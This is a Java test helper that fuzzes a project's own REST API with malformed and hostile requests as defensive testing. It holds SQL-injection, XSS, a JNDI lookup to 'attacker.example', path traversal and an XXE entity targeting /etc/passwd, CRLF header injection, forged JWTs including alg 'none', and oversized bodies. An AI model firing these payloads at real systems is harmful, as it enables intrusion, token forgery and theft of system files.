package io.shiporskip.e2e;

import com.fasterxml.jackson.core.JsonFactory;
import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.core.json.JsonWriteFeature;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.shiporskip.e2e.AuthorizationMatrix.Endpoint;
import io.shiporskip.e2e.AuthorizationMatrix.Role;
import io.shiporskip.infra.tokens.DevTokens;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * Generates malformed and hostile requests for every endpoint of {@link AuthorizationMatrix}: wrong types, missing
 * fields, out-of-range and huge numbers, deep and huge JSON, invalid UTF-8, control characters, unknown enum values,
 * injection strings, path tricks, forged tokens and garbage query parameters. Every request to a write endpoint is
 * invalid by construction ({@code mustBeRejected}); reads only have to answer without a server error.
 */
final class HostileRequests {

    /** One request. {@code path} is already percent-encoded where it must be. */
    record Attack(String label, Endpoint endpoint, String method, String path, Map<String, String> headers,
                  byte[] body, boolean mustBeRejected) {

        String describe() {
            String shown = body == null ? "" : new String(body, StandardCharsets.UTF_8);
            String line = label + ": " + method + " " + path + " " + (shown.length() > 200 ? shown.substring(0, 200) + "…" : shown);
            return printable(line);
        }
    }

    /** Non-ASCII and control characters as \\u escapes: reports must be writable and readable whatever was sent. */
    static String printable(String text) {
        StringBuilder out = new StringBuilder();
        for (char c : text.toCharArray()) {
            out.append(c >= 0x20 && c < 0x7f ? String.valueOf(c) : String.format("\\u%04x", (int) c));
        }
        return out.toString();
    }

    /** What a body field is, so a mutation can be invalid for certain. */
    enum Kind { TEXT, OPTIONAL_TEXT, OPTIONAL_SLUG, ENUM, OPTIONAL_ENUM, SCORE, TOOL_IDS, OBJECT }

    private record Field(String name, Kind kind, int maxLength, Map<String, Field> nested) {
    }

    /** Non-ASCII as \\u escapes: the only way to send unpaired surrogates, which UTF-8 cannot carry. */
    private static final ObjectMapper JSON = new ObjectMapper(
            JsonFactory.builder().enable(JsonWriteFeature.ESCAPE_NON_ASCII).build());

    static final List<String> INJECTIONS = List.of(
            "'; DROP TABLE event_store.domain_event_entry; --", "\" OR \"1\"=\"1", "1' OR '1'='1' /*",
            "<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)",
            "{{7*7}}${7*7}#{7*7}", "${jndi:ldap://attacker.example/a}", "../../../../etc/passwd",
            "%00%0d%0aSet-Cookie: x=1", "\\\"}]}", "Robert'); DELETE FROM read_model.tool_card;--",
            "\u202Egnp.exe", "\uD83D\uDE80 ship it", "Ünïcödé ☃ 中文 العربية", "line one\nline two\ttabbed\r\n");

    private static final List<String> BAD_TEXT = List.of("", "   ", "\u0000", "a\u0000b", "\u0007bell", "\u001b[2J",
            "\uD800", "x\uDC00y");

    private static final List<String> PATH_TRICKS = List.of("..", "%2e%2e", "..%2f..%2fadmin", "a%00b", "%00",
            "x".repeat(81), "UPPER", "t%C3%B6%C3%B6l", "%27%20OR%201%3D1--", "%3Cscript%3E", "tool%2Fvote", "%3B",
            "%25", "%ff%fe", "%24%7Bjndi%3Aldap%3A%2F%2Fx%7D", "%20", "a%0d%0aX-Injected:%201", "%E2%80%AE");

    /** Voter ids are any token subject without '/', whitespace or control characters: only those are tricks. */
    private static final List<String> VOTER_ID_TRICKS = List.of("%00", "a%00b", "%20", "a%2Fb", "x".repeat(201),
            "a%0d%0ab", "%ff%fe", "a%09b", "%1b%5B2J");

    /** Endpoints whose body may be left out entirely. */
    private static final java.util.Set<String> OPTIONAL_BODIES = java.util.Set.of("PROJECTOR POST /api/v1/admin/rebuilds");

    private static final List<String> QUERY_VALUES = List.of("-1", "0", "501", "99999999999999999999", "1e3", "abc",
            "NaN", "Infinity", "%00", "%27%20OR%201%3D1--", "%3Cscript%3E", "x".repeat(3000), "P999999999D", "PT0S",
            "-P1D", "P1Y", "PT1S", "+999999999-12-31T23:59:59Z", "-999999999-01-01T00:00:00Z", "2026-13-45T99:99:99Z",
            "1970-01-01T00:00:00Z", "eyJub3QiOiJhIGN1cnNvciJ9", "%ff%fe", "MAYBE", "hour%00", "", "%20",
            "1.5", "true", "[]");

    private static final List<String> QUERY_PARAMS = List.of("limit", "cursor", "type", "actor", "asOf", "waitFor",
            "bucket", "from", "to", "window", "baseline", "minVotes", "factor", "at", "state");

    private static final List<String> NUMBER_JUNK = List.of("-1", "101", "1e308", "1e999999", "-1e999999",
            "99999999999999999999999999999", "50.5", "0x10", "NaN", "\"50\"", "true", "[]", "{}", "null");

    private static final Map<String, Field> TOOL_FIELDS = fields(
            new Field("name", Kind.TEXT, 120, null), new Field("tagline", Kind.TEXT, 300, null),
            new Field("description", Kind.TEXT, 4000, null), new Field("category", Kind.TEXT, 80, null),
            new Field("bestFor", Kind.TEXT, 500, null),
            new Field("pricing", Kind.OBJECT, 0, fields(new Field("model", Kind.ENUM, 0, null),
                    new Field("entry", Kind.TEXT, 80, null), new Field("details", Kind.TEXT, 500, null))),
            new Field("id", Kind.OPTIONAL_SLUG, 80, null));

    private static final Map<String, Field> EDIT_FIELDS = fields(
            new Field("name", Kind.OPTIONAL_TEXT, 120, null), new Field("tagline", Kind.OPTIONAL_TEXT, 300, null),
            new Field("description", Kind.OPTIONAL_TEXT, 4000, null), new Field("reason", Kind.OPTIONAL_TEXT, 1000, null));

    private static final Map<String, Map<String, Field>> BODIES = Map.of(
            "COMMAND POST /api/v1/tools", TOOL_FIELDS,
            "COMMAND PATCH /api/v1/tools/{toolId}", EDIT_FIELDS,
            "COMMAND POST /api/v1/comparisons", fields(new Field("title", Kind.TEXT, 200, null),
                    new Field("toolIds", Kind.TOOL_IDS, 0, null), new Field("id", Kind.OPTIONAL_SLUG, 80, null)),
            "COMMAND PUT /api/v1/tools/{toolId}/reviews/{persona}", fields(new Field("score", Kind.SCORE, 0, null),
                    new Field("verdict", Kind.ENUM, 0, null), new Field("text", Kind.TEXT, 4000, null)),
            "COMMAND PUT /api/v1/tools/{toolId}/vote", fields(new Field("choice", Kind.ENUM, 0, null)),
            "PROJECTOR POST /api/v1/admin/rebuilds", fields(new Field("source", Kind.OPTIONAL_ENUM, 0, null)));

    private static final Map<String, Field> REASON_FIELDS = fields(new Field("reason", Kind.TEXT, 1000, null));

    private final Random random;
    private final String secret;

    HostileRequests(long seed, String secret) {
        this.random = new Random(seed);
        this.secret = secret;
    }

    /** At least {@code atLeast} attacks: every systematic one once, then random combinations until the count. */
    List<Attack> generate(int atLeast) {
        List<Attack> attacks = new ArrayList<>();
        for (Endpoint endpoint : AuthorizationMatrix.ENDPOINTS) {
            attacks.addAll(systematic(endpoint));
        }
        while (attacks.size() < atLeast) {
            Endpoint endpoint = AuthorizationMatrix.ENDPOINTS.get(random.nextInt(AuthorizationMatrix.ENDPOINTS.size()));
            List<Attack> options = systematic(endpoint);
            Attack pick = options.get(random.nextInt(options.size()));
            attacks.add(pick);
        }
        return attacks;
    }

    private List<Attack> systematic(Endpoint endpoint) {
        List<Attack> attacks = new ArrayList<>();
        attacks.addAll(pathTricks(endpoint));
        attacks.addAll(forgedTokens(endpoint));
        if (endpoint.isWrite()) {
            Map<String, Field> fields = bodyFields(endpoint);
            if (fields != null) {
                attacks.addAll(bodyMutations(endpoint, fields));
                attacks.addAll(structural(endpoint));
            }
            if (endpoint.method().equals("PATCH")) {
                for (String ifMatch : List.of("garbage", "\"-1\"", "\"99999999999999999999\"", "W/\"1\"")) {
                    attacks.add(new Attack("if-match " + ifMatch, endpoint, endpoint.method(), endpoint.concretePath(),
                            headers(endpoint, Map.of("If-Match", ifMatch)), json(endpoint.body()), true));
                }
            }
        } else {
            attacks.addAll(queryParameters(endpoint));
        }
        return attacks;
    }

    private static Map<String, Field> bodyFields(Endpoint endpoint) {
        Map<String, Field> fields = BODIES.get(endpoint.key());
        if (fields == null && endpoint.body() != null && endpoint.body().containsKey("reason")) {
            return REASON_FIELDS;
        }
        return fields;
    }

    private List<Attack> pathTricks(Endpoint endpoint) {
        List<Attack> attacks = new ArrayList<>();
        for (String variable : AuthorizationMatrix.FIXTURES.keySet()) {
            if (!endpoint.path().contains("{" + variable + "}")) {
                continue;
            }
            for (String trick : variable.equals("voterId") ? VOTER_ID_TRICKS : PATH_TRICKS) {
                String path = endpoint.path().replace("{" + variable + "}", trick);
                for (Map.Entry<String, String> fixture : AuthorizationMatrix.FIXTURES.entrySet()) {
                    path = path.replace("{" + fixture.getKey() + "}", fixture.getValue());
                }
                attacks.add(new Attack("path " + variable + "=" + trick, endpoint, endpoint.method(), path,
                        headers(endpoint, Map.of()), endpoint.body() == null ? null : json(endpoint.body()),
                        endpoint.isWrite()));
            }
        }
        return attacks;
    }

    private List<Attack> forgedTokens(Endpoint endpoint) {
        if (endpoint.isPublic()) {
            return List.of();
        }
        Map<String, Object> adminClaims = new LinkedHashMap<>();
        adminClaims.put("sub", "forger");
        adminClaims.put("roles", List.of("admin"));
        adminClaims.put("exp", Instant.now().plus(Duration.ofHours(1)).getEpochSecond());
        Map<String, Object> expired = new LinkedHashMap<>(adminClaims);
        expired.put("exp", Instant.now().minus(Duration.ofHours(1)).getEpochSecond());
        Map<String, Object> notYet = new LinkedHashMap<>(adminClaims);
        notYet.put("nbf", Instant.now().plus(Duration.ofHours(1)).getEpochSecond());
        String unsigned = base64Url("{\"alg\":\"none\",\"typ\":\"JWT\"}") + "." + base64Url(toJson(adminClaims)) + ".";
        List<String> authorizations = List.of(
                "Bearer " + unsigned,
                "Bearer " + DevTokens.sign("another-secret-that-is-long-enough-0123456789", Map.of("alg", "HS256"), adminClaims),
                "Bearer " + DevTokens.sign(secret, Map.of("alg", "HS512"), adminClaims),
                "Bearer " + DevTokens.sign(secret, Map.of("alg", "HS256"), expired),
                "Bearer " + DevTokens.sign(secret, Map.of("alg", "HS256"), notYet),
                "Bearer " + "A".repeat(8000), "Bearer a.b.c", "Bearer ", "Basic YWRtaW46YWRtaW4=", "admin",
                "Bearer " + unsigned.replace(".", "%00."));
        List<Attack> attacks = new ArrayList<>();
        for (String authorization : authorizations) {
            Map<String, String> headers = new LinkedHashMap<>();
            headers.put("Authorization", authorization);
            headers.put("Content-Type", "application/json");
            attacks.add(new Attack("forged token " + authorization.substring(0, Math.min(24, authorization.length())),
                    endpoint, endpoint.method(), endpoint.concretePath(), headers,
                    endpoint.body() == null ? null : json(endpoint.body()), true));
        }
        return attacks;
    }

    private List<Attack> bodyMutations(Endpoint endpoint, Map<String, Field> fields) {
        List<Attack> attacks = new ArrayList<>();
        for (Field field : fields.values()) {
            for (Object invalid : invalidValues(field)) {
                Map<String, Object> body = new LinkedHashMap<>(endpoint.body());
                body.put(field.name(), invalid);
                attacks.add(write(endpoint, "field " + field.name() + "=" + abbreviate(invalid), rawJson(body)));
            }
            if (field.kind() == Kind.TEXT || field.kind() == Kind.ENUM || field.kind() == Kind.SCORE
                    || field.kind() == Kind.TOOL_IDS || field.kind() == Kind.OBJECT) {
                Map<String, Object> body = new LinkedHashMap<>(endpoint.body());
                body.remove(field.name());
                if (!body.isEmpty() || fields.size() == 1) {
                    attacks.add(write(endpoint, "missing " + field.name(), rawJson(body)));
                }
            }
            if (field.kind() == Kind.OBJECT) {
                for (Field inner : field.nested().values()) {
                    for (Object invalid : invalidValues(inner)) {
                        Map<String, Object> body = new LinkedHashMap<>(endpoint.body());
                        @SuppressWarnings("unchecked")
                        Map<String, Object> nested = new LinkedHashMap<>((Map<String, Object>) body.get(field.name()));
                        nested.put(inner.name(), invalid);
                        body.put(field.name(), nested);
                        attacks.add(write(endpoint, "field " + field.name() + "." + inner.name() + "=" + abbreviate(invalid),
                                rawJson(body)));
                    }
                }
            }
        }
        Map<String, Object> unknown = new LinkedHashMap<>(endpoint.body());
        unknown.put("isAdmin", true);
        attacks.add(write(endpoint, "unknown field", rawJson(unknown)));
        Map<String, Object> polluted = new LinkedHashMap<>(endpoint.body());
        polluted.put("__proto__", Map.of("admin", true));
        attacks.add(write(endpoint, "prototype pollution", rawJson(polluted)));
        return attacks;
    }

    /** Values that make the field invalid whatever the rest of the body is. */
    private List<Object> invalidValues(Field field) {
        List<Object> values = new ArrayList<>();
        switch (field.kind()) {
            case TEXT, OPTIONAL_TEXT -> {
                values.add(new RawJson("12345"));
                values.add(new RawJson("true"));
                values.add(new RawJson("[\"a\"]"));
                values.add(new RawJson("{\"$gt\":\"\"}"));
                values.add("x".repeat(field.maxLength() + 1));
                for (String bad : BAD_TEXT) {
                    if (field.kind() == Kind.TEXT || !bad.isEmpty()) {
                        values.add(bad);
                    }
                }
                if (field.kind() == Kind.TEXT) {
                    values.add(new RawJson("null"));
                }
                values.add(INJECTIONS.get(random.nextInt(INJECTIONS.size())) + "\u0000");
            }
            case OPTIONAL_SLUG -> {
                values.add("Has Spaces");
                values.add("x".repeat(81));
                values.add("'; DROP TABLE tool_card; --");
                values.add("../etc");
                values.add("\u0000");
                values.add(new RawJson("7"));
            }
            case ENUM, OPTIONAL_ENUM -> {
                for (String name : List.of("MAYBE", "ship", "skip ", "", "' OR 1=1--", "<script>", "\u0000SHIP",
                        "ADMIN", "null")) {
                    values.add(name);
                }
                values.add(new RawJson("1"));
                values.add(new RawJson("[\"SHIP\"]"));
                values.add(new RawJson("{}"));
                if (field.kind() == Kind.ENUM) {
                    values.add(new RawJson("null"));
                }
            }
            case SCORE -> NUMBER_JUNK.forEach(n -> values.add(new RawJson(n)));
            case TOOL_IDS -> {
                values.add(List.of("matrix-tool"));
                values.add(List.of("a", "b", "c", "d", "e"));
                values.add(List.of("matrix-tool", "BAD SLUG"));
                values.add(List.of("matrix-tool", "\u0000"));
                values.add(new RawJson("\"matrix-tool\""));
                values.add(new RawJson("[\"matrix-tool\", null]"));
                values.add(new RawJson("[\"matrix-tool\", 7]"));
                values.add(new RawJson("null"));
            }
            case OBJECT -> {
                values.add(new RawJson("\"FREE\""));
                values.add(new RawJson("[]"));
                values.add(new RawJson("null"));
                values.add(new RawJson("{\"model\":\"FREE\"}"));
            }
        }
        return values;
    }

    private List<Attack> structural(Endpoint endpoint) {
        String valid = new String(json(endpoint.body()), StandardCharsets.UTF_8);
        List<Attack> attacks = new ArrayList<>();
        for (String body : List.of("", "null", "[]", "\"text\"", "42", "{", valid.substring(0, valid.length() / 2),
                valid + "}", valid.replaceFirst("\\{", "{\"a\":1,\"a\":2,"), "{'single':'quotes'}", "{\"a\":NaN}",
                "/* comment */" + valid, valid.replace(":", ": //\n"))) {
            if (OPTIONAL_BODIES.contains(endpoint.key()) && (body.isEmpty() || body.equals("null"))) {
                continue; // no body at all is a valid request there
            }
            attacks.add(write(endpoint, "structure " + abbreviate(body), body.getBytes(StandardCharsets.UTF_8)));
        }
        if (!endpoint.body().isEmpty()) {
            String first = endpoint.body().keySet().iterator().next();
            attacks.add(write(endpoint, "duplicate key", valid.replaceFirst("\\{",
                    "{\"" + first + "\":" + toJson(endpoint.body().get(first)) + ",").getBytes(StandardCharsets.UTF_8)));
        }
        attacks.add(write(endpoint, "deep nesting", ("{\"deep\":" + "[".repeat(5000) + "]".repeat(5000) + "}")
                .getBytes(StandardCharsets.UTF_8)));
        attacks.add(write(endpoint, "deep objects", ("{\"d\":" + "{\"d\":".repeat(3000) + "1" + "}".repeat(3001))
                .getBytes(StandardCharsets.UTF_8)));
        attacks.add(write(endpoint, "oversize body", ("{\"pad\":\"" + "x".repeat(70_000) + "\"}")
                .getBytes(StandardCharsets.UTF_8)));
        attacks.add(write(endpoint, "many keys", manyKeys(20_000)));
        byte[] invalidUtf8 = valid.getBytes(StandardCharsets.UTF_8);
        byte[] broken = new byte[invalidUtf8.length + 3];
        System.arraycopy(invalidUtf8, 0, broken, 0, invalidUtf8.length - 2);
        broken[invalidUtf8.length - 2] = (byte) 0xC3;
        broken[invalidUtf8.length - 1] = (byte) 0x28;
        broken[invalidUtf8.length] = (byte) 0xFF;
        broken[invalidUtf8.length + 1] = '"';
        broken[invalidUtf8.length + 2] = '}';
        attacks.add(write(endpoint, "invalid utf-8", broken));
        Map<String, String> plain = headers(endpoint, Map.of("Content-Type", "text/plain"));
        attacks.add(new Attack("wrong content type", endpoint, endpoint.method(), endpoint.concretePath(), plain,
                json(endpoint.body()), true));
        Map<String, String> xml = headers(endpoint, Map.of("Content-Type", "application/xml"));
        attacks.add(new Attack("xml body", endpoint, endpoint.method(), endpoint.concretePath(), xml,
                "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"
                        .getBytes(StandardCharsets.UTF_8), true));
        return attacks;
    }

    private List<Attack> queryParameters(Endpoint endpoint) {
        List<Attack> attacks = new ArrayList<>();
        for (String parameter : QUERY_PARAMS) {
            for (String value : QUERY_VALUES) {
                attacks.add(new Attack("query " + parameter + "=" + abbreviate(value), endpoint, "GET",
                        endpoint.concretePath() + "?" + parameter + "=" + value, headers(endpoint, Map.of()), null, false));
            }
        }
        StringBuilder many = new StringBuilder(endpoint.concretePath()).append('?');
        for (int i = 0; i < 300; i++) {
            many.append("waitFor=").append("dG9rZW4").append(i).append('&');
        }
        attacks.add(new Attack("many waitFor", endpoint, "GET", many.toString(), headers(endpoint, Map.of()), null, false));
        return attacks;
    }

    private Attack write(Endpoint endpoint, String label, byte[] body) {
        return new Attack(label, endpoint, endpoint.method(), endpoint.concretePath(), headers(endpoint, Map.of()), body,
                true);
    }

    /** An authorized token for the endpoint (a fresh subject, so per-voter limits never decide), plus extras. */
    private Map<String, String> headers(Endpoint endpoint, Map<String, String> extra) {
        Map<String, String> headers = new LinkedHashMap<>();
        if (!endpoint.isPublic()) {
            Role role = endpoint.roles().iterator().next();
            String persona = role == Role.PANELIST ? AuthorizationMatrix.FIXTURES.get("persona") : null;
            headers.put("Authorization", "Bearer " + DevTokens.mint(secret, "fuzz-" + random.nextInt(1_000_000),
                    List.of(role.name().toLowerCase()), persona, Duration.ofHours(2)));
        }
        headers.put("Content-Type", "application/json");
        headers.putAll(extra);
        return headers;
    }

    private byte[] manyKeys(int n) {
        StringBuilder json = new StringBuilder("{");
        for (int i = 0; i < n; i++) {
            json.append(i == 0 ? "" : ",").append("\"k").append(i).append("\":").append(i);
        }
        return json.append('}').toString().getBytes(StandardCharsets.UTF_8);
    }

    /** A value written into the body exactly as given (numbers JSON cannot hold, bare literals). */
    private record RawJson(String text) {
    }

    private static byte[] rawJson(Map<String, Object> body) {
        StringBuilder json = new StringBuilder("{");
        boolean first = true;
        for (Map.Entry<String, Object> entry : body.entrySet()) {
            json.append(first ? "" : ",").append(toJson(entry.getKey())).append(':').append(toJson(entry.getValue()));
            first = false;
        }
        return json.append('}').toString().getBytes(StandardCharsets.UTF_8);
    }

    private static String toJson(Object value) {
        if (value instanceof RawJson raw) {
            return raw.text();
        }
        if (value instanceof Map<?, ?> map) {
            StringBuilder json = new StringBuilder("{");
            boolean first = true;
            for (Map.Entry<?, ?> entry : map.entrySet()) {
                json.append(first ? "" : ",").append(toJson(entry.getKey())).append(':').append(toJson(entry.getValue()));
                first = false;
            }
            return json.append('}').toString();
        }
        try {
            return JSON.writeValueAsString(value);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] json(Map<String, Object> body) {
        return (body == null ? "" : toJson(body)).getBytes(StandardCharsets.UTF_8);
    }

    private static String base64Url(String text) {
        return java.util.Base64.getUrlEncoder().withoutPadding().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    private static String abbreviate(Object value) {
        String text = value instanceof RawJson raw ? raw.text() : String.valueOf(value);
        return text.length() > 24 ? text.substring(0, 24) + "…(" + text.length() + ")" : text;
    }

    private static Map<String, Field> fields(Field... fields) {
        Map<String, Field> map = new LinkedHashMap<>();
        for (Field field : fields) {
            map.put(field.name(), field);
        }
        return map;
    }
}
